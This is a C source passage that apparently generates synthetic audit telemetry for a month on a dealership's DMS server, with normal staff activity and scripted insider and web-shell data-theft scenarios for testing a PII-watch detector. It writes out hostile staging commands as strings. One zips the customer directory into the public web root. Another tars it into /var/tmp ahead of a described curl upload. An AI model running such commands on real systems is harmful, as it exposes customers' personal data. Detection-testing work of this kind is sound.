	spawn(g, &s, sh.pid, 0, "run-parts", "/usr/bin/run-parts",
	      "run-parts --report /etc/cron.hourly", t + 4 * MSEC);
}

/* yamada's crontab: the daily finance report at 06:15 on weekdays. */
static void render_user_cron(struct gen_state *g, const struct plan *p)
{
	const struct user *u = &users[p->user];
	struct boot *b = boot_at(g, p->start);
	struct sess s = { b, b->next_audit++, 0, u->uid, u->name, NULL, NULL, 0 };
	int month = month_of(g, p->day);
	char args[128], out[96];
	struct proc sh, rep;
	struct file *f;
	uint64_t t = p->start;
	struct rng r;
	bool inv;

	rng_seed(&r, p->seed);
	snprintf(args, sizeof(args), "/usr/local/bin/dms-report --daily --to /home/%s/reports",
		 u->name);
	sh = spawn(g, &s, pid_at(g, t), u->uid, "sh", "/usr/bin/dash", "/bin/sh -c", t + MSEC);
	snprintf(sh.args, sizeof(sh.args), "/bin/sh -c %s", args);
	rep = spawn(g, &s, sh.pid, u->uid, "dms-report", "/usr/local/bin/dms-report", args,
		    t + 5 * MSEC);
	t += 80 * MSEC;
	for (inv = false; ; inv = true) {
		f = finance_file(g, month, inv);
		if (f)
			t = read_file(g, &s, &rep, f, t, f->size, 64 * KIB, &r) + 3 * MSEC;
		if (inv)
			break;
	}
	snprintf(out, sizeof(out), "/home/%s/reports/daily-%02d.pdf", u->name, p->day + 1);
	write_staging(g, &s, &rep, out, t + 200 * MSEC, rng_range(&r, 180, 420) * KIB, 64 * KIB,
		      FL_WRITE, &r);
}

/* One hour of the DMS server: lookups from its web front end and the
 * manufacturer's systems, record updates during business hours, and the
 * warranty sync every quarter of an hour (a DNS query, then HTTPS). */
static void render_dms_hour(struct gen_state *g, const struct plan *p)
{
	int hour = (int)((p->start - g->day0_ns) % DAY / HOUR);
	bool business = hour >= 8 && hour < 20;
	double rate = business ? 28 : hour >= 20 && hour < 23 ? 6 : 1.5; /* per hour */
	struct rng r;
	uint64_t t;
	int q;

	rng_seed(&r, p->seed);
	for (t = p->start + rng_exp(&r, 3600.0 / rate) * NS; t < p->end;
	     t += rng_exp(&r, 3600.0 / rate) * NS + rng_range(&r, 0, 999) * MSEC) {
		struct boot *b = boot_at(g, t);
		struct sess s = { b, PW_NO_ID, 0, PW_NO_ID, "dms", NULL, NULL, 0 };
		struct proc w;
		struct file *f;

		if (g->reboot_day >= 0 && t >= at(g, g->reboot_day, 3, 58) &&
		    t < at(g, g->reboot_day, 4, 3))
			continue;
		proc_set(&w, b->dms_pid, 1, DMS_UID, "dms-worker", "/usr/sbin/dms-server",
			 "/usr/sbin/dms-server --config /etc/dms/dms.conf");
		f = pick(g, rng_chance(&r, 0.8) ? DS_CUSTOMERS : DS_SERVICE, &r);
		if (business && rng_chance(&r, 0.08))
			update_file(g, &s, &w, f, t, rng_range(&r, 16, 96) * KIB,
				    rng_range(&r, 512, 4096), &r);
		else
			read_file(g, &s, &w, f, t, rng_range(&r, 12, 300) * KIB, 8 * KIB, &r);
	}
	if (!business)
		return;
	for (q = 0; q < 4; q++) {
		struct boot *b;
		struct sess s;
		struct proc m;

		t = p->start + (uint64_t)q * 15 * MINUTE + rng_range(&r, 0, 4000) * MSEC;
		b = boot_at(g, t);
		s = (struct sess){ b, PW_NO_ID, 0, PW_NO_ID, "dms", NULL, NULL, 0 };
		proc_set(&m, b->dms_pid, 1, DMS_UID, "dms-server", "/usr/sbin/dms-server",
			 "/usr/sbin/dms-server --config /etc/dms/dms.conf");
		emit_connect(g, &s, &m, t, DNS_SERVER, 53, 0);
		emit_connect(g, &s, &m, t + rng_range(&r, 2, 30) * MSEC, MAKER_API, 443,
			     CONNECT_INPROGRESS);
	}
}

/* Nightly the DMS rewrites a few shards compacted: a new file beside the
 * old one, renamed over it. */
static void render_dms_compaction(struct gen_state *g, const struct plan *p)
{
	struct boot *b = boot_at(g, p->start);
	struct sess s = { b, PW_NO_ID, 0, PW_NO_ID, "dms", NULL, NULL, 0 };
	uint64_t t = p->start;
	struct proc w;
	struct rng r;
	int i, n;

	rng_seed(&r, p->seed);
	proc_set(&w, b->dms_pid, 1, DMS_UID, "dms-compact", "/usr/sbin/dms-server",
		 "/usr/sbin/dms-server --config /etc/dms/dms.conf");
	n = (int)rng_range(&r, 2, 5);
	for (i = 0; i < n; i++) {
		struct file *f = pick(g, rng_chance(&r, 0.6) ? DS_CUSTOMERS : DS_SERVICE, &r);
		char tmp[112], asked[240];
		struct io io = { .open_flags = FL_WRITE };
		uint64_t ino = g->next_ino++;

		t = read_file(g, &s, &w, f, t, f->size, MIB, &r) + 2 * MSEC;
		snprintf(tmp, sizeof(tmp), "%s.tmp", f->path);
		io.opened = t;
		io.bytes_written = f->size - f->size / 50;
		io.writes = (io.bytes_written + MIB - 1) / MIB;
		io.closed = t + io_time(io.bytes_written, 250e6, &r);
		emit_access(g, &s, &w, tmp, dataset_names[f->ds], false, false, ino, &io, &r);
		t = io.closed + rng_range(&r, 1, 5) * MSEC;
		snprintf(asked, sizeof(asked), "%s -> %s", tmp, f->path);
		emit_change(g, &s, &w, t, "rename", tmp, asked, f);
		f->ino = ino;
		f->size = io.bytes_written;
		f->mtime = t;
		t += rng_range(&r, 200, 4000) * MSEC;
	}
}

/* piiwatchd at the reboot: it stops with the probes detached ("detached")
 * and, started again, reports how long nothing was watched. */
static void render_daemon_restart(struct gen_state *g, const struct plan *p)
{
	struct pw_event_rec e = { .kind = "loss", .action = "detached", .comm = "piiwatchd",
				  .audit_session = PW_NO_ID, .loginuid = PW_NO_ID, .ppid = 1 };
	uint64_t up = g->boots[1].start_ns + 6 * NS;

	e.ts_ns = p->start;
	e.pid = PIIWATCHD_PID;
	add_line(g, e.ts_ns, pw_ecs_from_event(&e, HOST_NAME, g->boots[0].id));
	e.action = "unwatched";
	e.ts_ns = up;
	e.pid = PIIWATCHD_PID - 3;
	e.count = (up - p->start) / NS;
	add_line(g, e.ts_ns, pw_ecs_from_event(&e, HOST_NAME, g->boots[1].id));
}

/* The DMS server starting after the reboot checks the header of every
 * shard it serves. */
static void render_dms_start(struct gen_state *g, const struct plan *p)
{
	struct boot *b = boot_at(g, p->start);
	struct sess s = { b, PW_NO_ID, 0, PW_NO_ID, "dms", NULL, NULL, 0 };
	uint64_t t = p->start;
	struct proc m;
	struct rng r;
	size_t i;

	rng_seed(&r, p->seed);
	proc_set(&m, b->dms_pid, 1, DMS_UID, "dms-server", "/usr/sbin/dms-server",
		 "/usr/sbin/dms-server --config /etc/dms/dms.conf");
	for (i = 0; i < g->n_files; i++)
		if (g->files[i].ds == DS_CUSTOMERS || g->files[i].ds == DS_SERVICE)
			t = read_file(g, &s, &m, &g->files[i], t, 4 * KIB, 4 * KIB, &r) +
			    rng_range(&r, 100, 3000) * 1000;
}

/* restic from a systemd timer at 01:30: the files changed since the last
 * run, and every file on Sunday (--force).  It reads everything under
 * /srv/dms, the honeytoken included, and talks to the backup server. */
static void render_backup(struct gen_state *g, const struct plan *p)
{
	struct boot *b = boot_at(g, p->start);
	struct sess s = { b, PW_NO_ID, 0, PW_NO_ID, "root", NULL, NULL, 0 };
	bool full = p->flags & PLAN_FULL;
	uint64_t t = p->start + 1500 * MSEC;
	struct proc rs;
	struct rng r;
	size_t i, n = 0;

	rng_seed(&r, p->seed);
	proc_set(&rs, pid_at(g, p->start), 1, 0, "restic", "/usr/bin/restic",
		 full ? "/usr/bin/restic backup --force --one-file-system /srv/dms"
		      : "/usr/bin/restic backup --one-file-system /srv/dms");
	for (i = 0; i < g->n_files; i++) {
		struct file *f = &g->files[i];

		if (!full && f->mtime <= g->last_backup)
			continue;
		t = read_file(g, &s, &rs, f, t, f->size, 512 * KIB, &r) +
		    rng_range(&r, 1, 30) * MSEC;
		if (n++ % 60 == 0)
			emit_connect(g, &s, &rs, t + MSEC, BACKUP_SERVER, 8000, CONNECT_INPROGRESS);
	}
	g->last_backup = p->start;
}

/* A file a user of this role looks up in the DMS terminal. */
static struct file *lookup_target(struct gen_state *g, enum role role, int month, bool *write,
				  struct rng *r)
{
	double x = rng_unit(r);
	struct file *f;

	*write = false;
	switch (role) {
	case SALES:
		return pick(g, x < 0.8 ? DS_CUSTOMERS : DS_SERVICE, r);
	case ADVISOR:
		return pick(g, x < 0.35 ? DS_CUSTOMERS : DS_SERVICE, r);
	case TECH:
		return pick(g, x < 0.1 ? DS_CUSTOMERS : DS_SERVICE, r);
	case FINANCE:
		if (x < 0.25)
			return pick(g, DS_CUSTOMERS, r);
		/* mostly this month's and last month's books */
		f = finance_file(g, month - (rng_chance(r, 0.8) ? 0 : 1), rng_chance(r, 0.4));
		if (!f)
			f = pick(g, DS_FINANCE, r);
		*write = f->month == month && rng_chance(r, 0.35);
		return f;
	case ADMIN:
		break;
	}
	return pick(g, DS_SERVICE, r);
}

/* Lookups per hour of session by role. */
static double lookup_rate(enum role role)
{
	switch (role) {
	case SALES:
		return 0.6;
	case ADVISOR:
		return 1.0;
	case TECH:
		return 2.0;
	case FINANCE:
		return 0.8;
	case ADMIN:
		break;
	}
	return 0;
}

static int cmp_u64(const void *a, const void *b)
{
	uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;

	return x < y ? -1 : x > y;
}

/* The DMS terminal application run in a session: lookups at times spread
 * over [from, to] avoiding lunch, then its log line at exit. */
static void run_dms_term(struct gen_state *g, struct login *l, uint64_t from, uint64_t to,
			 int n, int month, uint64_t lunch, struct rng *r)
{
	const struct user *u = l->u;
	uint64_t times[512];
	char log[64];
	struct proc term;
	int i;

	term = spawn(g, &l->s, l->s.shell_pid, u->uid, "dms-term", "/usr/local/bin/dms-term",
		     "dms-term", from);
	if (n > 512)
		n = 512;
	for (i = 0; i < n; i++) {
		uint64_t t;

		do {
			t = rng_range(r, from + 20 * NS, to - 40 * NS);
		} while (lunch && t >= lunch && t < lunch + HOUR);
		times[i] = t;
	}
	qsort(times, (size_t)n, sizeof(times[0]), cmp_u64);
	for (i = 0; i < n; i++) {
		bool write;
		struct file *f = lookup_target(g, u->role, month, &write, r);

		if (write)
			update_file(g, &l->s, &term, f, times[i], f->size, rng_range(r, 600, 9000), r);
		else
			read_file(g, &l->s, &term, f, times[i], f->size, 64 * KIB, r);
	}
	snprintf(log, sizeof(log), "/home/%s/.dms-term.log", u->name);
	write_staging(g, &l->s, &term, log, to - 60 * MSEC, rng_range(r, 200, 3000), 4096,
		      FL_APPEND, r);
}

/* A staff member's login session on a working day. */
static void render_staff(struct gen_state *g, const struct plan *p)
{
	const struct user *u = &users[p->user];
	int month = month_of(g, p->day);
	uint64_t lunch = at(g, p->day, 12, 0) + (p->seed % 1800) * NS;
	uint64_t term_from, term_to, hours;
	struct login l;
	struct rng r;
	double n;

	rng_seed(&r, p->seed);
	if (lunch < p->start || lunch + HOUR > p->end)
		lunch = 0;
	session_begin(g, &l, u, p->addr, p->start, &r);
	term_from = p->start + rng_range(&r, 4, 25) * NS;
	term_to = p->end - rng_range(&r, 2, 10) * NS;
	hours = (term_to - term_from) / HOUR;
	n = lookup_rate(u->role) * ((double)(term_to - term_from) / (double)HOUR - (lunch ? 1 : 0));
	if (p->flags & PLAN_FIRST_DAY)
		n *= 0.3;
	if (p->flags & PLAN_CAMPAIGN)
		n *= 2.5;
	n *= 0.6 + 0.8 * rng_unit(&r);
	if (u->role != ADMIN && term_to > term_from + 2 * MINUTE)
		run_dms_term(g, &l, term_from, term_to, (int)(n + 0.5), month, lunch, &r);
	/* Power users: grep a customer shard, page through a service history. */
	if ((u->role == SALES || u->role == ADVISOR) && rng_chance(&r, 0.12) && hours >= 1) {
		struct file *f = pick(g, DS_CUSTOMERS, &r);
		uint64_t t = rng_range(&r, term_from + MINUTE, term_to - 2 * MINUTE);
		char args[160];
		struct proc grep;

		snprintf(args, sizeof(args), "grep -i %s %s", rng_chance(&r, 0.5) ? "toyota" : "lexus",
			 f->path);
		grep = spawn(g, &l.s, l.s.shell_pid, u->uid, "grep", "/usr/bin/grep", args, t);
		read_file(g, &l.s, &grep, f, t + 2 * MSEC, f->size, 96 * KIB, &r);
	}
	if (u->role == ADVISOR && rng_chance(&r, 0.1) && hours >= 1) {
		struct file *f = pick(g, DS_SERVICE, &r);
		uint64_t t = rng_range(&r, term_from + MINUTE, term_to - 5 * MINUTE);
		char args[160];
		struct proc less;

		snprintf(args, sizeof(args), "less %s", f->path);
		less = spawn(g, &l.s, l.s.shell_pid, u->uid, "less", "/usr/bin/less", args, t);
		page_file(g, &l.s, &less, f, t + 3 * MSEC, rng_range(&r, 64, 900) * KIB, &r);
	}
	/* Finance at month end: the month's reports over every book of the
	 * year, the one big read of the month. */
	if ((p->flags & PLAN_MONTH_END) && !(p->flags & PLAN_MORNING) && u->role == FINANCE) {
		uint64_t t = at(g, p->day, 16, 0) + rng_range(&r, 0, 3600) * NS;
		struct proc rep;
		char args[128], out[96];
		size_t i;

		snprintf(args, sizeof(args), "dms-report --month-end %04d-%02d", 2000 + month / 12,
			 month % 12 + 1);
		rep = spawn(g, &l.s, l.s.shell_pid, u->uid, "dms-report", "/usr/local/bin/dms-report",
			    args, t);
		for (i = 0; i < g->n_files; i++) {
			struct file *f = &g->files[i];

			if (f->ds != DS_FINANCE || (f->month >= 0 && f->month < month - 11))
				continue;
			t = read_file(g, &l.s, &rep, f, t + 5 * MSEC, f->size, 64 * KIB, &r);
		}
		snprintf(out, sizeof(out), "/home/%s/reports/month-end-%04d-%02d.pdf", u->name,
			 2000 + month / 12, month % 12 + 1);
		write_staging(g, &l.s, &rep, out, t + NS, rng_range(&r, 2, 6) * MIB, 64 * KIB,
			      FL_WRITE, &r);
	}
	session_end(g, &l, p->end, p->end, &r);
}

/* The IT contractor: a weekly look at the host, no customer data; on the
 * reboot day the patch run and the reboot itself. */
static void render_admin(struct gen_state *g, const struct plan *p)
{
	static char *const weekly[][3] = {
		{ "sudo", "/usr/bin/sudo", "sudo apt update" },
		{ "apt", "/usr/bin/apt", "apt update" },
		{ "systemctl", "/usr/bin/systemctl", "systemctl status dms-server" },
		{ "df", "/usr/bin/df", "df -h" },
		{ "journalctl", "/usr/bin/journalctl", "journalctl -u dms-server --since today" },
	};
	static char *const patch[][3] = {
		{ "sudo", "/usr/bin/sudo", "sudo apt full-upgrade -y" },
		{ "apt", "/usr/bin/apt", "apt full-upgrade -y" },
		{ "dpkg", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 23 --configure --pending" },
		{ "sudo", "/usr/bin/sudo", "sudo systemctl reboot" },
		{ "systemctl", "/usr/bin/systemctl", "systemctl reboot" },
	};
	const struct user *u = &users[p->user];
	bool reboot = p->flags & PLAN_REBOOT;
	uint64_t t, span = p->end - p->start;
	struct login l;
	struct rng r;
	size_t i, n = 5;

	rng_seed(&r, p->seed);
	session_begin(g, &l, u, p->addr, p->start, &r);
	for (i = 0; i < n; i++) {
		char *const *c = reboot ? patch[i] : weekly[i];

		t = p->start + 30 * NS + span * (i + 1) / (n + 1);
		spawn(g, &l.s, l.s.shell_pid, i == 0 || (reboot && i == 3) ? u->uid : 0, c[0], c[1],
		      c[2], t);
	}
	/* At shutdown sshd closes the session while piiwatchd is already
	 * gone: the record waits in the spool and arrives after the boot. */
	if (reboot)
		session_end(g, &l, p->end, g->boots[1].start_ns + 14 * NS, &r);
	else
		session_end(g, &l, p->end, p->end, &r);
}

/* ---- the benign month ------------------------------------------------------ */

static bool works(const struct gen_state *g, const struct user *u, int d, struct rng *r)
{
	int w = weekday(g, d);

	if (w == 0 || d < u->first_day || u->first_day < 0)
		return false;
	if (u->role == ADMIN)
		return false;
	if (w == u->day_off)
		return false;
	return !rng_chance(r, 0.04); /* leave, sick days */
}

/* Sessions of one user on one working day. */
static void plan_workday(struct gen_state *g, int ui, int d, struct rng *r)
{
	const struct user *u = &users[ui];
	int w = weekday(g, d), flags = 0;
	uint64_t start, end, noon;
	const char *addr = u->addr;
	char laptop[16];
	struct plan *p;

	if (ui == (int)NEW_HIRE && d == u->first_day)
		flags |= PLAN_FIRST_DAY;
	if (is_month_end(g, d) && u->role == FINANCE)
		flags |= PLAN_MONTH_END | PLAN_OVERTIME;
	if (rng_chance(r, 0.06))
		flags |= PLAN_OVERTIME;
	switch (u->role) {
	case SALES:
		start = w == 6 ? at(g, d, 9, 50) : at(g, d, 9, 20);
		end = w == 6 ? at(g, d, 17, 0) : at(g, d, 18, 30);
		break;
	case ADVISOR:
	case TECH:
		start = at(g, d, 8, 20);
		end = at(g, d, 17, 30);
		break;
	default:
		start = at(g, d, 8, 50);
		end = at(g, d, 18, 0);
		break;
	}
	start += rng_range(r, 0, 1500) * NS;
	end += rng_range(r, 0, 1800) * NS;
	if (flags & PLAN_OVERTIME)
		end += rng_range(r, 90, 200) * MINUTE;
	noon = at(g, d, 12, 0) + rng_range(r, 0, 1800) * NS;
	/* The technician's laptop now and then gets a new address. */
	if (u->role == TECH && rng_chance(r, 0.05)) {
		snprintf(laptop, sizeof(laptop), "10.20.2.%u", (unsigned)rng_range(r, 100, 199));
		addr = laptop;
	}
	if (u->role == TECH) {
		/* short look-ups at the service bay terminal */
		int k, n = (int)rng_range(r, 2, 4);

		for (k = 0; k < n; k++) {
			uint64_t s = start + (end - start) * (uint64_t)k / (uint64_t)n +
				     rng_range(r, 0, 1800) * NS;

			p = add_plan(g, s, s + rng_range(r, 8, 40) * MINUTE, render_staff, ui, flags,
				     "tech");
			if (p)
				snprintf(p->addr, sizeof(p->addr), "%s", addr);
		}
		return;
	}
	if (rng_chance(r, 0.5)) {
		/* logged out over lunch */
		p = add_plan(g, start, noon, render_staff, ui, flags | PLAN_MORNING, "morning");
		if (p)
			snprintf(p->addr, sizeof(p->addr), "%s", addr);
		start = noon + rng_range(r, 50, 70) * MINUTE;
	}
	if (ui != (int)NEW_HIRE && u->role == SALES && rng_chance(r, 0.015))
		flags |= PLAN_CAMPAIGN;
	p = add_plan(g, start, end, render_staff, ui, flags, "day");
	if (p)
		snprintf(p->addr, sizeof(p->addr), "%s", addr);
}

static void plan_benign(struct gen_state *g)
{
	struct rng r;
	size_t ui;
	int d, h;

	rng_seed(&r, derive_seed(g->seed, "benign", 0));
	for (d = 0; d < g->days; d++) {
		int w = weekday(g, d);

		for (h = 0; h < 24; h++) {
			add_plan(g, at(g, d, h, 0), at(g, d, h + 1, 0), render_dms_hour, -1, 0, "dms");
			add_plan(g, at(g, d, h, 17) + rng_range(&r, 0, 900) * MSEC, 0, render_cron, -1,
				 0, "cron");
		}
		add_plan(g, at(g, d, 6, 25) + rng_range(&r, 0, 900) * MSEC, 0, render_cron, -1,
			 PLAN_FULL, "cron.daily");
		if (w >= 1 && w <= 5)
			add_plan(g, at(g, d, 6, 15) + rng_range(&r, 0, 900) * MSEC, 0,
				 render_user_cron, FINANCE_LEAD, 0, "user-cron");
		add_plan(g, at(g, d, 1, 30) + rng_range(&r, 0, 20000) * MSEC, 0, render_backup, -1,
			 w == 0 ? PLAN_FULL : 0, "backup");
		add_plan(g, at(g, d, 3, 0) + rng_range(&r, 0, 60000) * MSEC, 0, render_dms_compaction,
			 -1, 0, "compaction");
		for (ui = 0; ui < N_USERS; ui++)
			if (works(g, &users[ui], d, &r))
				plan_workday(g, (int)ui, d, &r);
		if (w == 3) {
			uint64_t s = at(g, d, 14, 0) + rng_range(&r, 0, 3600) * NS;

			add_plan(g, s, s + rng_range(&r, 10, 30) * MINUTE, render_admin, IT_ADMIN, 0,
				 "admin");
		}
		if (d == g->reboot_day) {
			add_plan(g, at(g, d, 3, 40), at(g, d, 3, 59), render_admin, IT_ADMIN,
				 PLAN_REBOOT, "reboot");
			add_plan(g, g->boots[1].start_ns + 8 * NS, 0, render_dms_start, -1, 0,
				 "dms-start");
			/* systemd stops piiwatchd before the ssh session ends */
			add_plan(g, at(g, d, 3, 58) + 30 * NS, 0, render_daemon_restart, -1, 0,
				 "piiwatchd");
		}
	}
}

/* ---- attacks --------------------------------------------------------------- */

struct attack {
	char *name;
	char *rules;             /* rule ids that count as detecting it */
	char *what;
	uint64_t grace;          /* the window ends this long after the last record */
	void (*plan)(struct gen_state *g, struct rng *r);
};

/* A day in the last part of the month for an attack, on which cond holds. */
static int attack_day(struct gen_state *g, struct rng *r, int lo, int hi,
		      bool (*cond)(struct gen_state *g, int d, int ui), int ui)
{
	int tries, d;

	for (tries = 0; tries < 1000; tries++) {
		d = (int)rng_range(r, (uint64_t)lo, (uint64_t)hi);
		if (d != g->reboot_day && (!cond || cond(g, d, ui)))
			return d;
	}
	return hi;
}

static bool is_workday_of(struct gen_state *g, int d, int ui)
{
	int w = weekday(g, d);

	return w != 0 && w != users[ui].day_off && !is_month_end(g, d);
}

static bool is_off_day_of(struct gen_state *g, int d, int ui)
{
	int w = weekday(g, d);

	return w == 0 || w == users[ui].day_off;
}

static bool is_weeknight(struct gen_state *g, int d, int ui)
{
	int w = weekday(g, d);

	(void)ui;
	return w >= 2 && w <= 5;
}

static int late_lo(const struct gen_state *g)
{
	return g->days * 11 / 20 > FIRST_ATTACK_DAY ? g->days * 11 / 20 : FIRST_ATTACK_DAY;
}

static int pick_user(struct rng *r, enum role a, enum role b)
{
	int ui;

	do
		ui = (int)rng_range(r, 0, NEW_HIRE - 1);
	while (users[ui].role != a && users[ui].role != b);
	return ui;
}

/* Customer shards copied out at 2 a.m. from the user's own workstation. */
static void render_bulk_export(struct gen_state *g, const struct plan *p)
{
	const struct user *u = &users[p->user];
	uint64_t t = p->start + 40 * NS;
	char args[160], dst[160];
	struct login l;
	struct proc cp;
	struct rng r;
	size_t i;

	rng_seed(&r, p->seed);
	session_begin(g, &l, u, p->addr, p->start, &r);
	spawn(g, &l.s, l.s.shell_pid, u->uid, "mkdir", "/usr/bin/mkdir", "mkdir -p .cache/x", t);
	snprintf(args, sizeof(args), "cp /srv/dms/customers/customers-0001.csv ... .cache/x/");
	cp = spawn(g, &l.s, l.s.shell_pid, u->uid, "cp", "/usr/bin/cp", args, t + 8 * NS);
	t += 8 * NS + 3 * MSEC;
	for (i = 0; i < g->n_files; i++) {
		struct file *f = &g->files[i];

		if (f->ds != DS_CUSTOMERS)
			continue;
		read_file(g, &l.s, &cp, f, t, f->size, 128 * KIB, &r);
		snprintf(dst, sizeof(dst), "/home/%s/.cache/x/%s", u->name, strrchr(f->path, '/') + 1);
		t = write_staging(g, &l.s, &cp, dst, t + MSEC, f->size, 128 * KIB, FL_WRITE, &r) + MSEC;
	}
	session_end(g, &l, t + rng_range(&r, 60, 600) * NS, t + 600 * NS, &r);
}

static void plan_bulk_export(struct gen_state *g, struct rng *r)
{
	int ui = pick_user(r, SALES, ADVISOR), d = attack_day(g, r, late_lo(g), g->days - 2,
							       is_weeknight, ui);
	uint64_t s = at(g, d, 2, 0) + rng_range(r, 0, 1800) * NS;

	add_plan(g, s, s + HOUR, render_bulk_export, ui, 0, "bulk-export");
}

/* A service advisor walks the customer shards in order over five working
 * days, in a second terminal beside the day's normal work. */
static void render_drip(struct gen_state *g, const struct plan *p)
{
	const struct user *u = &users[p->user];
	uint64_t t, budget, span, done;
	struct file *shard[N_CUSTOMER_SHARDS];
	struct login l;
	struct proc term;
	struct rng r;
	size_t i, n = 0;

	rng_seed(&r, p->seed);
	/* His sessions of the day started earlier and are all counted. */
	done = g->read_day[((size_t)p->user * (size_t)g->days + (size_t)p->day) * DS_HONEYTOKEN +
			   DS_CUSTOMERS];
	budget = done < DRIP_DAY_CUSTOMERS ? DRIP_DAY_CUSTOMERS - done : 0;
	session_begin(g, &l, u, p->addr, p->start, &r);
	term = spawn(g, &l.s, l.s.shell_pid, u->uid, "dms-term", "/usr/local/bin/dms-term",
		     "dms-term", p->start + 9 * NS);
	/* Each day goes on where the last one stopped. */
	while (n < N_CUSTOMER_SHARDS) {
		struct file *f = &g->files[g->drip_next % N_CUSTOMER_SHARDS];

		if (f->size > budget)
			break;
		budget -= f->size;
		shard[n++] = f;
		g->drip_next++;
	}
	span = p->end - p->start - 10 * MINUTE;
	t = p->start + 2 * MINUTE;
	for (i = 0; i < n; i++) {
		read_file(g, &l.s, &term, shard[i], t, shard[i]->size, 64 * KIB, &r);
		t += span / n - rng_range(&r, 0, 60) * NS;
	}
	session_end(g, &l, p->end, p->end, &r);
}

static void plan_drip(struct gen_state *g, struct rng *r)
{
	int ui = pick_user(r, ADVISOR, ADVISOR), d, k = 0;
	int lo = FIRST_ATTACK_DAY, hi = g->days - 8;

	d = attack_day(g, r, lo, hi > lo ? hi : lo, is_workday_of, ui);
	for (; d < g->days - 1 && k < 5; d++) {
		/* after every session of his day has started */
		uint64_t s = at(g, d, 14, 30) + rng_range(r, 0, 1200) * NS;

		if (!is_workday_of(g, d, ui))
			continue;
		add_plan(g, s, at(g, d, 17, 30) + rng_range(r, 0, 600) * NS, render_drip, ui, 0,
			 "drip");
		k++;
	}
}

/* A login late on a day off from an address never seen, a few look-ups. */
static void render_offhours(struct gen_state *g, const struct plan *p)
{
	const struct user *u = &users[p->user];
	uint64_t t = p->start + 30 * NS;
	struct login l;
	struct proc term, less;
	struct rng r;
	char args[160];
	int i, n;

	rng_seed(&r, p->seed);
	session_begin(g, &l, u, p->addr, p->start, &r);
	term = spawn(g, &l.s, l.s.shell_pid, u->uid, "dms-term", "/usr/local/bin/dms-term",
		     "dms-term", t);
	n = (int)rng_range(&r, 4, 7);
	for (i = 0; i < n; i++) {
		struct file *f = pick(g, DS_CUSTOMERS, &r);

		t += rng_range(&r, 60, 300) * NS;
		read_file(g, &l.s, &term, f, t, f->size, 64 * KIB, &r);
	}
	{
		struct file *f = pick(g, DS_SERVICE, &r);

		t += rng_range(&r, 60, 200) * NS;
		snprintf(args, sizeof(args), "less %s", f->path);
		less = spawn(g, &l.s, l.s.shell_pid, u->uid, "less", "/usr/bin/less", args, t);
		t = page_file(g, &l.s, &less, f, t + 5 * MSEC, 700 * KIB, &r);
	}
	session_end(g, &l, t + rng_range(&r, 120, 600) * NS, t + 600 * NS, &r);
}

static void plan_offhours(struct gen_state *g, struct rng *r)
{
	int ui = pick_user(r, SALES, SALES), d = attack_day(g, r, late_lo(g), g->days - 2,
							     is_off_day_of, ui);
	uint64_t s = at(g, d, 22, 30) + rng_range(r, 0, 2400) * NS;
	struct plan *p = add_plan(g, s, s + HOUR, render_offhours, ui, 0, "offhours");

	if (p)
		snprintf(p->addr, sizeof(p->addr), "203.0.113.%u", (unsigned)rng_range(r, 20, 240));
}

/* The DMS server itself (compromised) reads the finance books it never
 * reads, at night. */
static void render_dms_finance(struct gen_state *g, const struct plan *p)
{
	struct boot *b = boot_at(g, p->start);
	struct sess s = { b, PW_NO_ID, 0, PW_NO_ID, "dms", NULL, NULL, 0 };
	uint64_t t = p->start;
	struct proc w;
	struct rng r;
	size_t i;

	rng_seed(&r, p->seed);
	proc_set(&w, b->dms_pid, 1, DMS_UID, "dms-worker", "/usr/sbin/dms-server",
		 "/usr/sbin/dms-server --config /etc/dms/dms.conf");
	for (i = 0; i < g->n_files; i++) {
		struct file *f = &g->files[i];

		if (f->ds != DS_FINANCE)
			continue;
		t = read_file(g, &s, &w, f, t, f->size, 8 * KIB, &r) +
		    rng_range(&r, 5, 900) * MSEC;
	}
}

static void plan_dms_finance(struct gen_state *g, struct rng *r)
{
	int d = attack_day(g, r, late_lo(g), g->days - 2, is_weeknight, 0);
	uint64_t s = at(g, d, 3, 10) + rng_range(r, 0, 1800) * NS;

	add_plan(g, s, s + HOUR, render_dms_finance, -1, 0, "dms-finance");
}

/* A web shell in the DMS's web front end: sh and zip as the dms user, no
 * login session, the customer directory zipped into the web root. */
static void render_webshell(struct gen_state *g, const struct plan *p)
{
	static char cmd[] = "zip -qr /var/lib/dms/www/static/.s.zip /srv/dms/customers";
	struct boot *b = boot_at(g, p->start);
	struct sess s = { b, PW_NO_ID, 0, PW_NO_ID, "dms", NULL, NULL, 0 };
	uint64_t t = p->start;
	struct proc sh, zip;
	struct rng r;
	char args[160];
	size_t i;
	uint64_t total = 0;

	rng_seed(&r, p->seed);
	snprintf(args, sizeof(args), "sh -c %s", cmd);
	proc_set(&sh, pid_at(g, t), b->dms_pid, DMS_UID, "sh", "/usr/bin/dash", args);
	proc_set(&zip, pid_at(g, t + 2 * MSEC), sh.pid, DMS_UID, "zip", "/usr/bin/zip", cmd);
	t += 5 * MSEC;
	for (i = 0; i < g->n_files; i++) {
		struct file *f = &g->files[i];

		if (f->ds != DS_CUSTOMERS && f->ds != DS_HONEYTOKEN)
			continue;
		t = read_file(g, &s, &zip, f, t, f->size, 32 * KIB, &r) + MSEC;
		total += f->size;
	}
	/* zip writes its temporary file while it reads, and closes it last. */
	write_whole_run(g, &s, &zip, "/var/lib/dms/www/static/zi4Kx1Tq", p->start + 6 * MSEC, t,
			total / 4, 16 * KIB, FL_RDWR, &r);
}

static void plan_webshell(struct gen_state *g, struct rng *r)
{
	int d = attack_day(g, r, late_lo(g), g->days - 2, is_weeknight, 0);
	uint64_t s = at(g, d, 13, 30) + rng_range(r, 0, 3600) * NS;

	add_plan(g, s, s + HOUR, render_webshell, -1, 0, "webshell");
}

/* tar of the customer directory into /var/tmp, gzip, curl to a file
 * sharing site: the exfiltration chain. */
static void render_archive_upload(struct gen_state *g, const struct plan *p)
{
	const struct user *u = &users[p->user];
	uint64_t t = p->start + 45 * NS, total = 0;
	char tarf[64], args[200];
	struct login l;
	struct proc tar, curl;
	struct rng r;
	size_t i;

	rng_seed(&r, p->seed);
	session_begin(g, &l, u, p->addr, p->start, &r);
	snprintf(tarf, sizeof(tarf), "/var/tmp/.cache-%s.tar", u->name);
	snprintf(args, sizeof(args), "tar cf %s /srv/dms/customers", tarf);
	tar = spawn(g, &l.s, l.s.shell_pid, u->uid, "tar", "/usr/bin/tar", args, t);
	t += 4 * MSEC;
	for (i = 0; i < g->n_files; i++) {
		struct file *f = &g->files[i];

